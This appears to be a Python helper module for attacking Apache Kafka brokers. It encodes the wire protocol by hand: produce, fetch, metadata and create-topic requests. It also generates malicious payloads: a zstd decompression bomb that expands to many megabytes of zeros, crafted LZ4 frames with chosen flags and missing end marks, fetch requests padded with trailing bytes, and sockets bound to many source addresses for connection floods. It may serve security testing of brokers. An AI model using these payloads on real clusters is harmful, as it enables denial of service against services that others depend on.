"""Kafka's wire format, as far as the attacks and the probe need it: frames as bytes, nothing else."""

import socket
import struct
import time
import zlib

MAX = 2**31 - 1


def i8(n):
    return struct.pack(">b", n)


def i16(n):
    return struct.pack(">h", n)


def i32(n):
    return struct.pack(">i", n)


def i64(n):
    return struct.pack(">q", n)


def text(s):
    """A classic string; None is null."""
    if s is None:
        return i16(-1)
    s = s if isinstance(s, bytes) else s.encode()
    return i16(len(s)) + s


def uvarint(n):
    out = bytearray()
    while n >= 0x80:
        out.append(n & 0x7F | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def compact(s):
    """A compact string; None is null."""
    if s is None:
        return b"\0"
    s = s if isinstance(s, bytes) else s.encode()
    return uvarint(len(s) + 1) + s


def array(elements):
    return i32(len(elements)) + b"".join(elements)


def frame(key, version, body, client="attack", correlation=1, tags=False):
    """A whole frame, its size in front; `tags` for the APIs whose header has them in this version."""
    head = i16(key) + i16(version) + i32(correlation) + text(client) + (b"\0" if tags else b"")
    return i32(len(head) + len(body)) + head + body


CRC32C = []
for n in range(256):
    for _ in range(8):
        n = n >> 1 ^ (0x82F63B78 if n & 1 else 0)
    CRC32C.append(n)


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc = crc >> 8 ^ CRC32C[(crc ^ byte) & 0xFF]
    return crc ^ 0xFFFFFFFF


def varint(n):
    return uvarint((n << 1) ^ (n >> 63))


def record(value, delta=0, later_ms=0):
    body = b"\0" + varint(later_ms) + varint(delta) + varint(-1) + varint(len(value)) + value + varint(0)
    return varint(len(body)) + body


def batch(body, codec=0, count=1):
    """A record batch v2 around records that may be compressed."""
    time_ms = int(time.time() * 1000)
    rest = i16(codec) + i32(count - 1) + i64(time_ms) * 2 + i64(-1) + i16(-1) + i32(-1) + i32(count) + body
    return i64(0) + i32(4 + 1 + 4 + len(rest)) + i32(-1) + b"\2" + struct.pack(">I", crc32c(rest)) + rest


def zstd_bomb(mib, then=b""):
    """A batch of one record of so many MiB of zeros: zstd blocks that repeat one byte; `then` is a second record."""
    blocks = mib * 8
    size = blocks << 17
    inner = b"\0" + varint(0) + varint(0) + varint(-1) + varint(size - 1)
    start = varint(len(inner) + size) + inner
    body = bytearray(b"\x28\xb5\x2f\xfd\x00\x48" + struct.pack("<I", len(start) << 3)[:3] + start)
    for n in range(blocks):
        body += struct.pack("<I", 1 << 20 | 1 << 1 | (n == blocks - 1 and not then))[:3] + b"\0"
    if then:
        body += struct.pack("<I", len(then) << 3 | 1)[:3] + then
    return batch(bytes(body), codec=4, count=2 if then else 1)


def lz4_blocks(body, flags=0x60, magic=b"\x04\x22\x4d\x18", end=True, blocks=1):
    """Uncompressed blocks in an LZ4 frame with these flags; the header's checksum is right."""
    head = bytes([flags, 0x40])
    part = len(body) // blocks
    out = magic + head + bytes([xxh32(head) >> 8 & 0xFF])
    for n in range(blocks):
        piece = body[n * part :] if n == blocks - 1 else body[n * part : (n + 1) * part]
        out += struct.pack("<I", len(piece) | 1 << 31) + piece
    return out + (b"\0\0\0\0" if end else b"")


def xxh32(data):
    """xxHash of fewer than 4 bytes."""
    mask = 0xFFFFFFFF
    h = (0x165667B1 + len(data)) & mask
    for byte in data:
        h = (h + byte * 0x165667B1) & mask
        h = (h << 11 | h >> 21) * 0x9E3779B1 & mask
    h = (h ^ h >> 15) * 0x85EBCA77 & mask
    h = (h ^ h >> 13) * 0xC2B2AE3D & mask
    return h ^ h >> 16


def gzip_body(body):
    return zlib.compress(body, wbits=31)


def produce(topic, batches, acks=-1, correlation=1):
    """Produce v7: `batches` is a list of (partition, batch)."""
    parts = array([i32(p) + i32(len(b)) + b for p, b in batches])
    return frame(0, 7, text(None) + i16(acks) + i32(30_000) + array([text(topic) + parts]), correlation=correlation)


def fetch(topics, wait_ms, min_bytes, max_bytes=MAX, trailing=0):
    """Fetch v4: `topics` is a list of (name, bytes of its partitions array)."""
    body = i32(-1) + i32(wait_ms) + i32(min_bytes) + i32(max_bytes) + i8(0)
    body += array([text(name) + parts for name, parts in topics])
    return frame(1, 4, body + bytes(trailing))


def metadata(names, correlation=1):
    """Metadata v5; None asks for all topics."""
    topics = i32(-1) if names is None else array([text(name) for name in names])
    return frame(3, 5, topics + b"\0", correlation=correlation)


def create_topic(name, partitions, configs=()):
    """CreateTopics v2."""
    pairs = array([text(k) + text(v) for k, v in configs])
    return frame(19, 2, array([text(name) + i32(partitions) + i16(1) + array([]) + pairs]) + i32(30_000) + b"\0")


def connect(address, timeout=30, source=None):
    # By hand, so that a port can be chosen for many source addresses.
    s = socket.socket()
    s.settimeout(timeout)
    if source:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((source, 0))
    s.connect(address)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def read(s, n):
    out = bytearray()
    while len(out) < n:
        more = s.recv(min(1 << 20, n - len(out)))
        if not more:
            raise ConnectionError("closed")
        out += more
    return bytes(out)


def answer(s):
    return read(s, struct.unpack(">i", read(s, 4))[0])


def call(s, request):
    s.sendall(request)
    return answer(s)
